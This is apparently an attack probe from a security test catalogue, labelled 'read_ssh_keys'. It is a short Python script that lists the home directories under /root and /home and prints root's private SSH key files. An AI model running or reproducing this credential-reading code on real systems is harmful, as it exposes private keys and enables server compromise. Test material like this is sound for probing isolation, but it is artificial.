# attack: read_ssh_keys
# category: host_secrets
# kind: secret_read
# describe: private keys in home directories
import os
for home in ("/root", "/home"):
    try:
        for name in os.listdir(home):
            print(home, name)
    except OSError as e:
        print(e)
for p in ("/root/.ssh/id_rsa", "/root/.ssh/id_ed25519"):
    try:
        print(open(p).read())
    except OSError as e:
        print(e)
